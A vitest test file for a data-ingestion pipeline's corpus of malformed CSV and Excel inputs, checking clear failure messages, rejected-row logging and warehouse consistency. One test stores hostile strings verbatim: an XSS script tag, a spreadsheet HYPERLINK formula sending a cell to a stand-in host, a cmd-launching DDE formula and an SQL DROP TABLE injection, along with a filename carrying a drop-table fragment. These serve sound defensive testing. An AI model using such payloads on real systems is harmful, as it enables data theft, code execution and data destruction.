/**
 * The bad-input corpus (`fixtures/bad/`): every file there is named for what is wrong
 * with it. Each one either fails whole with one clear sentence naming the file and
 * what to do, or loads with its bad rows in `meta.rejected_rows` (file, line, field,
 * reason). None crashes, none prints a stack trace, none leaves a partial load.
 */
import { spawnSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { checkWarehouse } from '../../pipelines/check.ts';
import { loadConfig } from '../../pipelines/config.ts';
import { ConfigError, ExitCode } from '../../pipelines/errors.ts';
import { ingestFile } from '../../pipelines/ingest.ts';
import { memoryLogger } from '../../pipelines/log.ts';
import { prepareWarehouse } from '../../pipelines/meta.ts';
import { runInbox } from '../../pipelines/run.ts';
import { withSession } from '../../pipelines/session.ts';
import { Warehouse } from '../../pipelines/warehouse.ts';
import { defineAdapter } from '../../sources/adapter.ts';
import { adapters } from '../../sources/index.ts';
import { crmHubspotDeals } from '../../sources/crm/hubspot-deals.ts';
import { parseFile } from '../../sources/parse.ts';
import { MAX_CELL_CHARS, recordsPastEvent } from '../../sources/read/row-checks.ts';
import { programAmbassadors } from '../../sources/program/ambassadors.ts';
import { webTouchpoints } from '../../sources/web/touchpoints.ts';
import { buildModels } from '../helpers/models.ts';
import { tempFolder, testConfig } from '../helpers/warehouse.ts';
import { ADVOCACY } from '../helpers/cli.ts';

const BAD = join(import.meta.dirname, '../../fixtures/bad');
const STACK_TRACE = /\n\s+at /;

interface Rejection {
  line: number;
  field: string | null;
  reason: RegExp;
}

type Expected = { status: 'failed'; message: RegExp } | { status: 'loaded'; rows: number; rejected?: Rejection[]; note?: RegExp };

interface Case {
  file: string;
  expected: Expected;
  /** Load without a hashing salt. */
  noSalt?: boolean;
}

const failed = (message: RegExp): Expected => ({ status: 'failed', message });
const loaded = (rows: number, rejected: Rejection[] = [], note?: RegExp): Expected => ({ status: 'loaded', rows, rejected, ...(note ? { note } : {}) });
const UNKNOWN =
  /is not a format the pipeline knows: its header matches none of .*ambassador roster \(program\.ambassadors\).*force a format with --source NAME/;
const NOT_TEXT = /is not a text or spreadsheet file; drop the CSV or Excel export itself into the inbox/;
const BAD_WORKBOOK = /looks like an Excel workbook but cannot be opened \(.+\); open it in Excel and save it again, or export it as CSV/;

const CASES: Case[] = [
  { file: 'empty.csv', expected: failed(/^empty\.csv is empty; export the file again/) },
  { file: 'header-only.csv', expected: loaded(0, [], /has a header and no rows under it \(line 1\)/) },
  { file: 'binary-data.bin', expected: failed(NOT_TEXT) },
  { file: 'gzip-compressed-roster.csv.gz', expected: failed(NOT_TEXT) },
  {
    file: 'pdf-renamed-to-csv.csv',
    expected: failed(/^pdf-renamed-to-csv\.csv is a PDF, whose tables the pipeline cannot read; download the report's data as CSV or Excel/),
  },
  {
    file: 'cut-off-mid-quote.csv',
    expected: loaded(8, [
      { line: 10, field: null, reason: /quoted value on line 10 is not closed properly; the file is cut off, or a quote inside a value is not doubled/ },
    ]),
  },
  {
    file: 'unclosed-quote-mid-file.csv',
    expected: loaded(7, [{ line: 9, field: null, reason: /opens on line 9 and is never closed, so lines 9 to 10 ran together/ }]),
  },
  { file: 'wrong-delimiter-colon.csv', expected: failed(UNKNOWN) },
  { file: 'utf16le-without-bom.csv', expected: loaded(8) },
  { file: 'utf16be-without-bom.csv', expected: loaded(8) },
  { file: 'latin1-danish.csv', expected: loaded(8) },
  { file: 'mixed-line-endings.csv', expected: loaded(8) },
  { file: 'duplicate-column-names.csv', expected: failed(/has 2 columns named "name" in its header on line 1; keep one of them/) },
  { file: 'unknown-format.csv', expected: failed(UNKNOWN) },
  { file: 'blank-lines-only.csv', expected: failed(UNKNOWN) },
  { file: 'preamble-only.csv', expected: failed(UNKNOWN) },
  { file: 'html-page-saved-as-csv.csv', expected: failed(UNKNOWN) },
  { file: 'extra-columns.csv', expected: loaded(2) },
  { file: 'missing-optional-columns.csv', expected: loaded(2) },
  {
    file: 'missing-required-column.csv',
    expected: failed(/has no column "period_end" in its header on line 1, and a program goals file needs it; export the file again with that column/),
  },
  {
    file: 'impossible-dates.csv',
    expected: loaded(8, [
      { line: 10, field: 'joined_on', reason: /"2026-02-30" in joined_on is not a valid date/ },
      { line: 11, field: 'joined_on', reason: /"2026-13-01" in joined_on is not a valid date/ },
    ]),
  },
  { file: 'mixed-date-layouts.csv', expected: loaded(7, [{ line: 9, field: 'joined_on', reason: /"August 1st" in joined_on is not a valid date/ }]) },
  {
    file: 'future-dates.csv',
    expected: loaded(9, [
      {
        line: 11,
        field: 'touched_at',
        reason: /"2099-01-01T09:00:00Z" in touched_at is after tomorrow \(\d{4}-\d\d-\d\d\), and an export only holds what already happened/,
      },
      { line: 12, field: 'touched_at', reason: /is after tomorrow/ },
    ]),
  },
  {
    file: 'negative-metrics.csv',
    expected: loaded(9, [
      { line: 14, field: 'sessions', reason: /"-12" in Sessions is negative, and a count cannot be/ },
      { line: 15, field: 'engaged_sessions', reason: /"-1" in Engaged sessions is negative/ },
    ]),
  },
  {
    file: 'non-numeric-metrics.csv',
    expected: loaded(9, [
      { line: 14, field: 'sessions', reason: /"lots" in Sessions is not a whole number/ },
      { line: 15, field: 'engaged_sessions', reason: /"n\/a!" in Engaged sessions is not a whole number/ },
    ]),
  },
  { file: 'fractional-count.csv', expected: loaded(9, [{ line: 14, field: 'sessions', reason: /"12\.5" in Sessions is not a whole number/ }]) },
  {
    file: 'excel-error-values.csv',
    expected: loaded(9, [
      { line: 14, field: 'sessions', reason: /"#VALUE!" in Sessions is not a whole number/ },
      { line: 15, field: 'sessions', reason: /"#DIV\/0!" in Sessions is not a whole number/ },
    ]),
  },
  {
    file: 'duplicate-natural-keys.csv',
    expected: loaded(8, [{ line: 10, field: 'ambassador_id', reason: /the same ambassador_id is already on line 4 of this file; the first one is kept/ }]),
  },
  { file: 'roster-unknown-lead.csv', expected: loaded(9) },
  {
    file: 'goal-end-before-start.csv',
    expected: loaded(4, [{ line: 6, field: 'period_end', reason: /period_end is before period_start; swap or correct the dates/ }]),
  },
  { file: 'ragged-rows.csv', expected: loaded(8, [{ line: 10, field: null, reason: /the row has 17 fields where the header has 14/ }]) },
  { file: 'nul-byte-in-text.csv', expected: loaded(8, [{ line: 10, field: null, reason: /name holds a NUL character \(byte 0\), which no export writes/ }]) },
  {
    file: 'too-many-bad-rows.csv',
    expected: failed(
      /12 of 16 rows cannot be loaded \(more than the 20% allowed by ingest\.max_rejected_share\), so the file was not loaded; the first is line 6: "maybe" in is_leader is not true or false/,
    ),
  },
  { file: 'corrupt-workbook.xlsx', expected: failed(BAD_WORKBOOK) },
  { file: 'truncated-workbook.xlsx', expected: failed(BAD_WORKBOOK) },
  { file: 'corrupt-old-excel.xls', expected: failed(BAD_WORKBOOK) },
  { file: "it's; drop table x.csv", expected: loaded(3) },
  { file: 'hostile-text.csv', expected: loaded(4) },
  {
    file: 'personal-data-without-salt.csv',
    noSalt: true,
    expected: failed(/holds e-mails or names of leads or candidates, and no hashing salt is set; add "salt:" to the config or set ADVOCACY_SALT/),
  },
];

async function count(warehouse: Warehouse, sql: string): Promise<number> {
  return (await warehouse.one<{ n: number }>(`select (${sql})::integer as n`))!.n;
}

/** Rows in every raw table. */
async function rawRows(warehouse: Warehouse): Promise<number> {
  const tables = await warehouse.all<{ name: string }>(`select table_name as name from information_schema.tables where table_schema = 'raw'`);
  let total = 0;
  for (const { name } of tables) total += await count(warehouse, `select count(*) from raw."${name}"`);
  return total;
}

describe('fixtures/bad: the bad-input corpus', () => {
  // Making every raw and meta table takes longer than most cases' load: they are made once, and each case loads into a copy.
  const prepared = join(tempFolder(), 'prepared.duckdb');
  beforeAll(async () => {
    const warehouse = await Warehouse.open(prepared);
    try {
      await prepareWarehouse(warehouse, adapters);
    } finally {
      warehouse.close();
    }
  });

  /** Runs `work` with a fresh warehouse holding every raw and meta table, and closes it. */
  async function withWarehouse<T>(work: (warehouse: Warehouse) => Promise<T>): Promise<T> {
    const path = join(tempFolder(), 'advocacy.duckdb');
    copyFileSync(prepared, path);
    const warehouse = await Warehouse.open(path);
    try {
      return await work(warehouse);
    } finally {
      warehouse.close();
    }
  }

  it('has at least 30 files, and a case for each', () => {
    const files = readdirSync(BAD).filter((name) => name !== 'config' && name !== 'README.md');
    expect(files.length).toBeGreaterThanOrEqual(30);
    expect(CASES.map((one) => one.file).sort()).toEqual(files.sort());
  });

  it.each(CASES)('$file', async ({ file, expected, noSalt }) => {
    await withWarehouse(async (warehouse) => {
      const log = memoryLogger();
      const config = noSalt ? testConfig({ salt: undefined }) : testConfig();
      const outcome = await ingestFile(warehouse, config, join(BAD, file), { runId: null, log });
      expect(outcome.status, 'message' in outcome ? outcome.message : '').toBe(expected.status);
      if (expected.status === 'failed' && outcome.status === 'failed') {
        expect(outcome.message).toMatch(expected.message);
        expect(outcome.message.startsWith(file)).toBe(true);
        expect(outcome.message).not.toMatch(STACK_TRACE);
        // Nothing of a failed file is kept but the note that it failed.
        expect(await rawRows(warehouse)).toBe(0);
        expect(await count(warehouse, `select count(*) from meta.rejected_rows`)).toBe(0);
        expect(await warehouse.all(`select file_name, status from meta.files`)).toEqual([{ file_name: file, status: 'failed' }]);
      }
      if (expected.status === 'loaded' && outcome.status === 'loaded') {
        expect(outcome.rowsLoaded).toBe(expected.rows);
        const rejected = await warehouse.all<{ file_name: string; line: number; field: string | null; reason: string }>(
          `select file_name, line, field, reason from meta.rejected_rows order by line`,
        );
        expect(rejected.length).toBe(expected.rejected?.length ?? 0);
        for (const [index, want] of (expected.rejected ?? []).entries()) {
          expect(rejected[index]).toMatchObject({ file_name: file, line: want.line, field: want.field });
          expect(rejected[index]!.reason).toMatch(want.reason);
        }
        expect(await rawRows(warehouse)).toBe(expected.rows);
        if (expected.note) expect(outcome.notes.join('\n')).toMatch(expected.note);
      }
      // Whatever happened, the warehouse agrees with its file log.
      expect((await checkWarehouse(warehouse, { models: [] })).problems).toEqual([]);
    });
  });

  it('keeps text as text: Danish letters from every encoding, and hostile text verbatim', async () => {
    await withWarehouse(async (warehouse) => {
      const config = testConfig();
      for (const file of ['utf16le-without-bom.csv', 'utf16be-without-bom.csv', 'latin1-danish.csv']) {
        await ingestFile(warehouse, config, join(BAD, file), { runId: null, log: memoryLogger() });
      }
      const names = await warehouse.all<{ name: string; n: number }>(
        `select name, count(*)::integer as n from raw.program__ambassadors where ambassador_id in ('A001', 'A007', 'A008') group by name order by name`,
      );
      expect(names).toEqual([
        { name: 'Birgitte Ås', n: 3 },
        { name: 'Søren Kjærgaard', n: 3 },
        { name: 'Ørjan Dahl', n: 3 },
      ]);
      await ingestFile(warehouse, config, join(BAD, 'hostile-text.csv'), { runId: null, log: memoryLogger() });
      const hostile = await warehouse.all<{ name: string }>(
        `select name from raw.program__ambassadors where _source_file = 'hostile-text.csv' order by ambassador_id`,
      );
      expect(hostile.map((row) => row.name)).toEqual([
        '<script>alert(1)</script>',
        '=HYPERLINK("http://evil.example/?"&A1;"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        `"Robert'); DROP TABLE raw.program__ambassadors;--"`,
      ]);
    });
  });

  it('rejects the row with a 10 MB field and keeps only a short excerpt of it', async () => {
    const dir = tempFolder();
    const file = join(dir, 'ten-megabyte-field.csv');
    const huge = 'x'.repeat(10 * 1024 * 1024);
    writeFileSync(
      file,
      `ambassador_id,name,utm_code,linkedin_headline\nA001,Søren Kjærgaard,amb-7f3k2,Engineer\nA002,Åse Mølgaard,amb-q81zd,"${huge}"\nA003,Jens Hansen,amb-00x1a,\nA004,Mette Larsen,amb-m3tt3,\nA005,Peter Nielsen,amb-p9n2x,\n`,
    );
    await withWarehouse(async (warehouse) => {
      const outcome = await ingestFile(warehouse, testConfig(), file, { runId: null, log: memoryLogger() });
      expect(outcome).toMatchObject({ status: 'loaded', rowsLoaded: 4, rowsRejected: 1 });
      const row = await warehouse.one<{ line: number; reason: string; raw_length: number }>(
        `select line, reason, length(raw)::integer as raw_length from meta.rejected_rows`,
      );
      expect(row!.line).toBe(3);
      expect(row!.reason).toMatch(
        new RegExp(`linkedin_headline holds 10,485,760 characters, more than any export writes \\(${MAX_CELL_CHARS.toLocaleString('en')}\\)`),
      );
      expect(row!.raw_length).toBeLessThan(2100);
    });
  });

  it('a broken link in the inbox is named and left where it is (links are not followed), and the run goes on', async () => {
    const root = tempFolder();
    const config = testConfig({}, root);
    mkdirSync(config.paths.inbox, { recursive: true });
    symlinkSync(join(root, 'nowhere.csv'), join(config.paths.inbox, 'a-broken-link.csv'));
    copyFileSync(join(BAD, 'missing-optional-columns.csv'), join(config.paths.inbox, 'b-roster.csv'));
    const log = memoryLogger();
    const summary = await withSession(config, 'run', log, (session) => runInbox(session));
    expect(summary).toMatchObject({ filesLoaded: 1, filesFailed: 0, filesSkipped: 1 });
    expect(log.lines.join('\n')).toMatch(/skipped a-broken-link\.csv in the inbox, left where it is: it is a link/);
    expect(readdirSync(config.paths.inbox).sort()).toEqual(['a-broken-link.csv']);
  });

  it('rejects past events dated after tomorrow, but not dates that may lie ahead', () => {
    const now = new Date('2026-06-01T12:00:00Z');
    const options = { fileName: 'x.csv', folderName: 'x', timezone: 'Europe/Copenhagen', locale: 'da-DK', salt: 'a-salt-for-tests', now };
    const touches = parseFile(
      new TextEncoder().encode('visitor_id,touched_at\nv1,2026-06-02T11:00:00Z\nv2,2026-06-02T13:00:00Z\nv3,2020-01-01T00:00:00Z\n'),
      webTouchpoints,
      options,
    );
    expect(touches.rows.map((row) => row.values.visitor_id)).toEqual(['v1', 'v3']);
    expect(touches.rejected).toEqual([
      expect.objectContaining({ line: 3, field: 'touched_at', reason: expect.stringMatching(/is after tomorrow \(2026-06-02\)/) }),
    ]);

    // An open deal's close date and a roster's start date may be in the future.
    const deals = parseFile(
      new TextEncoder().encode(
        'Record ID,Deal Stage,Amount,Close Date,Create Date\n1,Contract sent,100,2026-12-01 10:00,2026-05-01 10:00\n2,Contract sent,100,2026-12-01 10:00,2026-07-01 10:00\n',
      ),
      crmHubspotDeals,
      options,
    );
    expect(deals.rows.map((row) => row.values.record_id)).toEqual(['1']);
    expect(deals.rejected[0]).toMatchObject({ line: 3, field: 'created_at' });
    const roster = parseFile(new TextEncoder().encode('ambassador_id,name,utm_code,joined_on\nA1,Ann,amb-1,2027-01-01\n'), programAmbassadors, options);
    expect(roster.rows).toHaveLength(1);

    expect(recordsPastEvent({ name: 'shared_at', type: 'timestamp' })).toBe(true);
    expect(recordsPastEvent({ name: 'activity_on', type: 'date' })).toBe(true);
    expect(recordsPastEvent({ name: 'applied_on', type: 'date' })).toBe(true);
    expect(recordsPastEvent({ name: 'closed_at', type: 'timestamp' })).toBe(false);
    expect(recordsPastEvent({ name: 'period_end', type: 'date' })).toBe(false);
    expect(recordsPastEvent({ name: 'published_on', type: 'date' })).toBe(false);
    expect(recordsPastEvent({ name: 'published_on', type: 'date', past: true })).toBe(true);
    expect(recordsPastEvent({ name: 'touched_at', type: 'timestamp', past: false })).toBe(false);
  });

  it('rejects negative counts, unless a column is declared signed', () => {
    const adapter = (signed: boolean) =>
      defineAdapter({
        name: 'test.net_followers',
        platform: 'linkedin',
        title: 'test export',
        signature: ['day', 'change'],
        loader: 'papaparse',
        naturalKey: ['day'],
        columns: [
          { name: 'day', headers: ['day'], type: 'date', required: true },
          { name: 'change', headers: ['change'], type: 'integer', signed },
        ],
      });
    const bytes = new TextEncoder().encode('day,change\n2026-01-01,5\n2026-01-02,-3\n');
    const options = { fileName: 'x.csv', folderName: 'x', timezone: 'UTC', locale: 'da-DK', salt: null };
    expect(parseFile(bytes, adapter(false), options).rejected).toEqual([
      expect.objectContaining({
        line: 3,
        field: 'change',
        reason: '"-3" in change is negative, and a count cannot be; correct the value or export the file again',
      }),
    ]);
    expect(parseFile(bytes, adapter(true), options).rows.map((row) => row.values.change)).toEqual([5, -3]);
  });

  it('lists a roster lead who is not on the roster in marts.data_issues, and check shows it as a warning', async () => {
    await withWarehouse(async (warehouse) => {
      const config = testConfig();
      await ingestFile(warehouse, config, join(BAD, 'roster-unknown-lead.csv'), { runId: null, log: memoryLogger() });
      await buildModels(warehouse, config, ['marts.data_issues'], []);
      expect(await warehouse.all(`select issue_kind, table_name, row_key, field, value from marts.data_issues`)).toEqual([
        { issue_kind: 'unknown_lead', table_name: 'core.ambassadors', row_key: 'A009', field: 'lead_id', value: 'A999' },
      ]);
      const result = await checkWarehouse(warehouse);
      expect(result.problems).toEqual([]);
      expect(result.warnings).toEqual([
        expect.stringMatching(/the roster names A999 as the lead of A009, and no ambassador has that id; correct lead_id in the roster/),
      ]);
    });
  });

  it.each(readdirSync(join(BAD, 'config')).sort())('config/%s stops with one sentence naming the key', (file) => {
    const path = join(BAD, 'config', file);
    const expected: Record<string, RegExp> = {
      'missing-company.yaml': /^Config key company is missing in .*; it must be an object\.$/,
      'not-yaml.yaml': /^The config file .*not-yaml\.yaml is not valid YAML: .*line 3/,
      'path-escapes-project.yaml':
        /^Config key paths\.warehouse: "\.\.\/\.\.\/elsewhere\/advocacy\.duckdb" leads outside the config's folder .*; use a path inside it, or an absolute path if you mean it\.$/,
      'salt-too-short.yaml': /^Config key salt has the value "abc" in .*, which is not allowed; it must be at least 8 characters\.$/,
      'unknown-key.yaml': /^Unknown config key attribution\.lookback_dayz in .*; did you mean `attribution\.lookback_days`\?$/,
      'wrong-type-lock-wait.json': /^Config key lock\.wait_seconds has the value "forever" in .*, which is not allowed; it must be a number\.$/,
      'wrong-type.yaml': /^Config key attribution\.lookback_days has the value "thirty" in .*, which is not allowed; it must be a number\.$/,
    };
    expect(expected[file], `add an expectation for config/${file}`).toBeDefined();
    expect(() => loadConfig(path, {})).toThrow(ConfigError);
    expect(() => loadConfig(path, {})).toThrow(expected[file]!);
  });

  it('through the command line: the whole corpus in one ingest exits 3 without a stack trace, and the warehouse stays consistent', () => {
    const cwd = tempFolder();
    writeFileSync(join(cwd, 'advocacy.config.yaml'), 'company:\n  name: Nordlys Energi A/S\n');
    const files = CASES.map((one) => join(BAD, one.file));
    const env = { ...process.env, ADVOCACY_SALT: '' };
    const ingest = spawnSync(process.execPath, [ADVOCACY, 'ingest', ...files], { cwd, encoding: 'utf8', env });
    expect(ingest.status).toBe(ExitCode.badInput);
    expect(ingest.stderr).not.toMatch(STACK_TRACE);
    expect(ingest.stderr).not.toMatch(/internal error/);
    // No salt here: the one file with personal data fails too, and says why.
    const failures = CASES.filter((one) => one.expected.status === 'failed' || one.noSalt);
    for (const { file } of failures) expect(ingest.stderr).toContain(`error: ${file}`);
    expect(ingest.stdout).toMatch(
      new RegExp(`files: ${CASES.length - failures.length} loaded, 0 already loaded \\(nothing to do\\), ${failures.length} failed`),
    );

    const check = spawnSync(process.execPath, [ADVOCACY, 'check'], { cwd, encoding: 'utf8', env });
    expect(check.stderr).not.toMatch(STACK_TRACE);
    expect(check.status).toBe(ExitCode.ok);
    expect(check.stdout).toMatch(/check: the warehouse is consistent \(\d+ checks passed\)/);

    const badConfig = spawnSync(process.execPath, [ADVOCACY, 'status', '--config', join(BAD, 'config/unknown-key.yaml')], { cwd, encoding: 'utf8', env });
    expect(badConfig.status).toBe(ExitCode.config);
    expect(badConfig.stderr.trim().split('\n')).toHaveLength(1);
    expect(badConfig.stderr).toMatch(/^error: Unknown config key attribution\.lookback_dayz/);
  });
});
